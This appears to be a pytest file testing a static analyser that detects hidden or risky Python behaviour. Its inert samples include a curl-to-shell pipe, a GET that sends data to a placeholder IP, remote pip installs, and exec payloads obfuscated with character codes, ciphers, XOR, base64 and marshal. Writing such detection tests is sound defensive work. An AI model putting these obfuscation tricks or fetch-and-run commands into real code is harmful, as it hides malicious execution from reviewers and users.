"""Single kinds of behaviour in Python, however they are written. Sources here are hand-written and inert."""

import base64
import string
import zlib

import pytest

from darnel.features.languages.python import analyse
from darnel.features.languages.python_source import MAX_READ
from darnel.features.limits import DEFAULT_LIMITS
from tests.features.languages.observed import facts, seen, texts


def test_a_written_command_is_classified() -> None:
    source = "f = open('x', 'a')\nf.write('curl -s https://example.invalid/x | sh')"
    assert seen(source)["spawn.piped"].api == "written:spawn.piped"
    assert set(seen("f = open('x', 'w')\nf.write('A line of ordinary text about curl.')")) == {"file.write"}


def test_numbers_dressed_as_text_are_read() -> None:
    number = (
        "int(float(str('....336.719.{}..582').split('..')[int(float(2 * 55 / 55))].split('.')[int(float(2 * 7 / 7))]))"
    )
    source = "exec(''.join(map(chr, [" + ", ".join(number.format(ord(c)) for c in "import os;os.system('id')") + "])))"
    assert seen(source)["spawn.shell"].hidden


def test_substitution_ciphers_are_undone() -> None:
    source = (
        "import string\na = string.ascii_letters\nr = a[::-1]\n"
        "exec(''.join([r[a.index(c)] if c in r else c for c in "
        + repr("".join(_swapped(c) for c in "import os;os.system('id')"))
        + "]))"
    )
    assert seen(source)["spawn.shell"].hidden
    assert seen(source)["hide.encoded"].hidden


def _swapped(c: str) -> str:
    letters = string.ascii_letters
    return letters[::-1][letters.index(c)] if c in letters else c


def test_code_assembled_where_it_is_executed_counts_as_decoded() -> None:
    assert "decode.characters" in seen("exec(''.join(table[i - 3] for i in numbers))")
    assert "decode.characters" in seen("exec(text.translate(table))")
    assert "decode.characters" not in seen("exec(source, namespace)")
    assert "decode.characters" not in seen("exec(compile(open('x.py').read(), 'x.py', 'exec'))")


def test_names_behind_a_bound_method_of_a_string_are_resolved() -> None:
    codes = ", ".join(str(ord(c)) for c in "eval")
    source = f"glue = ''.join\nrun = getattr(__builtins__, glue([chr(i) for i in [{codes}]]))\nrun('1 + 1')"
    found = seen(source)
    assert found["code.evaluate"].hidden
    assert "decode.characters" in found


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("os.system('pythonw deps.pyw')", True),
        ("subprocess.Popen([sys.executable, 'version'])", True),
        ("subprocess.run(['python3', '-u', '-m', 'helper.loader'])", True),
        ("subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", False),
        ("subprocess.run([sys.executable, 'setup.py', 'bdist_wheel'])", False),
        ("os.system('python --version')", False),
        ("here = os.path.dirname(__file__)\nsubprocess.Popen(['python3', here + '/worker.py'])", True),
        ("subprocess.run([sys.executable, os.path.join(here, 'tools', 'worker.py')])", True),
        ("subprocess.run([sys.executable, str(Path(__file__).parent / 'worker.py')])", True),
        ("python = sys.executable\nsubprocess.run([python, 'worker.py'])", True),
        ("subprocess.run([sys.executable, os.path.join(here, 'setup.py'), 'build'])", False),
        ("subprocess.run([sys.executable, script])", False),
        ("subprocess.Popen([os.path.join(here, 'updater.exe'), '-q'])", True),
        ("os.startfile('updater.bat')", True),
        ("os.system('start /b updater.exe')", True),
        ("os.system('taskkill /im updater.exe')", False),
        ("subprocess.run(['powershell.exe', '-Command', 'ls'])", False),
    ],
)
def test_scripts_given_to_an_interpreter(command: str, expected: bool) -> None:
    assert ("spawn.script" in seen(f"import os, subprocess, sys\n{command}")) is expected


def test_the_call_around_a_payload_of_megabytes_is_seen() -> None:
    payload = base64.b64encode(b"print(1)\n" * 300_000).decode()
    found = facts(f"from base64 import b64decode\nexec(b64decode('{payload}'))\nimport os\nos.system('id')\n")
    assert {"code.evaluate", "decode.text", "spawn.shell"} <= {o.behaviour for o in found.observations}
    assert next(o.line for o in found.observations if o.behaviour == "spawn.shell") == 4
    assert "literals" in found.cut


def test_a_computed_builtin_that_is_called_is_evaluation() -> None:
    assert seen("import builtins\ngetattr(builtins, name)(text)")["code.evaluate"].hidden
    assert "code.evaluate" not in seen("import builtins\nfound = getattr(builtins, name)")
    assert "decode.characters" in seen("text = ''.join([chr((b - (key % 256)) % 256) for b in data])")


@pytest.mark.parametrize(
    "source",
    [
        '__builtins__.get("exec")(text)\n',
        'globals()["__builtins__"].get("ex" + "ec")(text)\n',
        'join = "".join\n'
        "look = globals()[join([chr(x) for x in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]\n"
        "run = look.get(join([chr(x) for x in [101, 118, 97, 108]]))\nrun(text)\n",
        "__builtins__.get(name)(text)\n",
        "class A:\n    def __init__(self):\n        self.a, self.b = 1, eval\n        self.b(text)\n",
        "class A:\n    def __init__(self):\n        self.go = exec\n        self.go(text)\n",
    ],
)
def test_builtins_behind_lookups_and_attributes(source: str) -> None:
    assert "code.evaluate" in seen(source)


def test_styled_names_are_the_names_they_spell() -> None:
    styled = "".join(chr(0x1D5EE + ord(letter) - 97) for letter in "requests")
    wide = "".join(chr(0xFF41 + ord(letter) - 97) for letter in "subprocess")
    found = seen(f'import requests, subprocess\n\n{styled}.get("https://a.example.invalid/x")\n{wide}.call(["x"])\n')
    assert found["net.fetch"].line == 3
    assert found["spawn.process"].line == 4
    assert "net.fetch" not in seen(f'print("{styled} - a name for nothing")\n')


@pytest.mark.parametrize(
    "source",
    [
        "from pip._vendor import requests\nrequests.post(url, json=data)\n",
        "from other.vendored.requests import Session\ns = Session()\ns.request(method='POST', url=url, json=data)\n",
    ],
)
def test_vendored_clients_are_the_clients(source: str) -> None:
    assert "net.send" in seen(source)


def test_a_text_that_grows_line_by_line_is_folded() -> None:
    packed = base64.b64encode(
        zlib.compress(b'import subprocess\nsubprocess.run(["whoami"])\nprint("inert")\n')
    ).decode()
    lines = "".join(f"Z += '{packed[i : i + 16]}'\n" for i in range(0, len(packed), 16))
    found = seen(
        f'import base64, zlib\nZ = ""\n{lines}Z = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nif Z:\n    exec(Z)\n'
    )
    assert found["spawn.process"].hidden
    assert found["spawn.process"].top


def _looped(addition: str) -> str:
    key, code = "735691", 'import os\nos.system("whoami")\n# inert\n'
    hidden = "".join(chr(ord(a) ^ ord(key[i % len(key)])) for i, a in enumerate(code))
    return (
        f"A = {hidden!r}\nB = {key!r}\nn = len(A)\no = ''\nfor i in range(n):\n    a = A[i]\n    b = B[i % len(B)]\n"
        f"{addition}exec(o)\n"
    )


def test_a_loop_that_decodes_is_computed() -> None:
    found = seen(_looped("    o += chr(ord(a) ^ ord(b))\n"))
    assert found["spawn.shell"].hidden
    # What is not straight is left alone: the value may be another.
    assert "spawn.shell" not in seen(_looped("    if a != b:\n        o += chr(ord(a) ^ ord(b))\n"))


def test_a_conditional_addition_changes_nothing() -> None:
    found = seen('import os\n\ncommand = "who"\nif os.path.exists("x"):\n    command += "ami"\nos.system(command)\n')
    assert "host.identity" not in found
    assert "host.identity" in seen('import os\n\ncommand = "who"\ncommand += "ami"\nos.system(command)\n')


def test_packages_installed_from_an_address() -> None:
    assert "install.dependency" in seen('import os\nos.system("pip install https://a.example.invalid/b.tar.gz")\n')
    assert "install.dependency" in seen(
        'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "git+https://a.example.invalid/b"])\n'
    )
    assert "install.dependency" not in seen('import os\nos.system("pip install requests")\n')


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("requests.get(base64.b64decode(K) + key)", True),
        ('requests.get("http://192.0.2.1:1338/?h=" + answer)', True),
        ('requests.get(f"https://a.example.invalid/{mnemonic}")', True),
        ('requests.get("https://a.example.invalid/?page=" + page)', False),
        ("requests.get(base64.b64decode(K))", False),
    ],
)
def test_a_get_that_carries_something_sends(source: str, expected: bool) -> None:
    assert ("net.send" in seen(f"import base64\nimport requests\n\n{source}\n")) is expected


@pytest.mark.parametrize(
    ("source", "behaviour"),
    [
        ("import boto3\ns = boto3.Session()\ns.get_credentials()\n", "cred.cloud"),
        ("from flask import Flask\napp = Flask(__name__)\napp.run()\n", "net.listen"),
        ("import telebot\nbot = telebot.TeleBot(t)\nbot.infinity_polling()\n", "net.fetch"),
        ("import telebot\nbot = telebot.TeleBot(t)\nbot.reply_to(m, text)\n", "net.send"),
    ],
)
def test_frameworks(source: str, behaviour: str) -> None:
    assert behaviour in seen(source)


def test_import_for_what_a_module_says_of_itself_is_ordinary() -> None:
    assert "code.import" not in seen("PACKAGE = 'mine'\nVERSION = __import__(PACKAGE).__version__\n")
    assert "code.import" in seen("__import__('os').system\n")
    assert "code.import" in seen("__import__('mine').__doc__.run()\n")


def test_constants_of_marshalled_code_are_read() -> None:
    code = b"\xe3" + bytes(20) + b"z\x29https://a.example.invalid/payload-in-marshal" + bytes(20)
    source = f"import base64, marshal\nexec(marshal.loads(base64.b64decode('{base64.b64encode(code).decode()}')))\n"
    assert any("a.example.invalid" in value for value in texts(source))


def test_option_and_code_in_one_word() -> None:
    found = seen("import sys, subprocess\np = sys.executable\nsubprocess.Popen([p, '-c \"import os;os.remove(1)\"'])")
    assert {"spawn.interpreter", "file.delete"} <= set(found)


@pytest.mark.parametrize(
    "source",
    [
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')",
        "from .pyarmor_runtime_012345 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')",
    ],
)
def test_a_module_that_pyarmor_enciphered(source: str) -> None:
    assert {"code.opaque", "hide.array"} <= set(seen(source))


def test_a_host_that_only_an_f_string_says() -> None:
    parts = "def f():\n    a = 'https'\n    b = 'ex' + 'ample'\n    c = 'invalid'\n"
    url = "https://example.invalid"
    for call in ("u = f'{a}://{b}.{c}'\n    requests.post(u, data=d)", "requests.get(f'{a}://{b}.{c}')"):
        assert "concat" in texts(f"import requests\n{parts}    {call}")[url]
    spelled = "import requests\nU = 'https://example.invalid'\nrequests.post(f'{U}/x', data=d)"
    assert set(texts(spelled)) == {url, "{U}/x"}
    assert url not in texts(f"import requests\n{parts}    print(f'{{a}}://{{b}}.{{c}}')")


@pytest.mark.parametrize(("argument", "loads"), [("weights_only=False", True), ("weights_only=True", False)])
def test_a_model_that_may_hold_code(argument: str, loads: bool) -> None:
    assert ("code.deserialise" in seen(f"import torch\ntorch.load('model.pt', {argument})")) is loads


def test_a_function_made_of_code_compiled_on_the_spot() -> None:
    assert seen("import types\ntypes.FunctionType(compile(a(), b(), c()), globals())()")["code.opaque"].hidden
    assert "code.opaque" not in seen("import types\ntypes.FunctionType(f.__code__, globals())")
    assert "code.opaque" not in seen("import types\ntypes.FunctionType(code, globals())()")


@pytest.mark.parametrize(
    ("source", "top"),
    [
        ("from setuptools import setup\nif __name__ == '__main__':\n    exec(x)\n    setup()\n", True),
        ("import setuptools\nsetuptools.setup()\nif __name__ == '__main__':\n    exec(x)\n", True),
        ("import setuptools\nif __name__ == '__main__':\n    exec(x)\n", False),
        ("a, b = (lambda x: exec(x)), (lambda: 1)\na(b())\n", True),
        ("a, b = (lambda x: exec(x)), (lambda: 1)\nb()\n", False),
        ("a, b = (lambda: (lambda x: exec(x))), 1\na()(b)\n", True),
    ],
)
def test_blocks_of_the_program_and_listed_lambdas_that_run(source: str, top: bool) -> None:
    assert seen(source)["code.evaluate"].top is top


@pytest.mark.parametrize(
    ("head", "hidden"),
    [(b"\0asm\1\0\0\0", False), (b"GIF89a", False), (b"MZ\x90\0\3\0\0\0", True), (b"\x7fELF\2\1\1\0", True)],
)
def test_a_program_in_a_literal_is_hidden_and_webassembly_is_none(head: bytes, hidden: bool) -> None:
    data = head + bytes(range(128, 256)) * 2
    text = base64.b64encode(data).decode()
    for source in (f"x = '{text}'", f"import base64\nx = base64.b64decode('{text}')", f"x = {data!r}"):
        found = {o.behaviour for o in analyse(source.encode(), DEFAULT_LIMITS).observations}
        assert ("hide.encoded" in found) is hidden


@pytest.mark.parametrize(
    ("source", "guards"),
    [
        ("def f(url):\n    return url.hostname == 'a.invalid'", False),
        ("if hostname in skipped: pass", False),
        ("if username == 'a': pass", False),
        ("import socket\nhostname = socket.gethostname()\nif hostname == 'a': pass", True),
        ("import platform\nhostname = platform.node()\nif hostname in names: pass", True),
        ("import getpass\nusername = getpass.getuser()\nif username == 'a': pass", True),
        ("import os\nusername = os.environ['USERNAME']\nif username == 'a': pass", True),
        ("import socket\nif socket.gethostname() == 'a': pass", True),
    ],
)
def test_comparing_a_name_is_a_guard_if_it_is_that_of_the_machine(source: str, guards: bool) -> None:
    found = {o.behaviour for o in analyse(source.encode(), DEFAULT_LIMITS).observations}
    assert ("guard.host" in found) is guards


@pytest.mark.parametrize("many", [MAX_READ, MAX_READ + 1])
def test_names_that_are_read_are_found_however_many(many: int) -> None:
    source = "import os\n'os.environ'  # os.environ\nos.environ.x\n" + "y = os.environ\n" * (many - 3)
    assert [seen.behaviour for seen in facts(source).observations] == ["env.all"] * (many - 3)
